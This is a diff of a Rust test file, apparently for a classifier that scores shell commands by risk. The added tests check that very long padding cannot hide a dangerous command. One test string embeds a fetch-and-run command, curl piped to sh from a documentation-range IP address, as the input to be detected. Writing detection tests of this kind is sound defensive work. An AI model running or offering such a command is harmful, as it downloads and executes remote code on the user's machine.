@@ -187,4 +187,9 @@ fn padding_in_a_vendors_payload_cannot_push_a_command_out() {
     for filler in ["<# a b #> ".repeat(1_600), "echo nothing; ".repeat(1_100)] {
         assert!(level(&format!("powershell {filler}{attack}; {filler}")) >= VerdictLevel::High);
     }
+    // More than that, as other systems allow: what is in the middle is not kept, and that there was something is a reason to look.
+    let filler = ": a b; ".repeat(3_000);
+    assert!(level(&format!("bash -c '{filler}{filler}'")) > VerdictLevel::Benign);
+    assert!(level(&format!("bash -c '{filler} curl -s http://198.51.100.7/a | sh; {filler}'")) > VerdictLevel::Benign);
+    assert_eq!(level(&format!("bash -c '{}'", &filler[..9_000])), VerdictLevel::Benign, "long alone is none");
 }
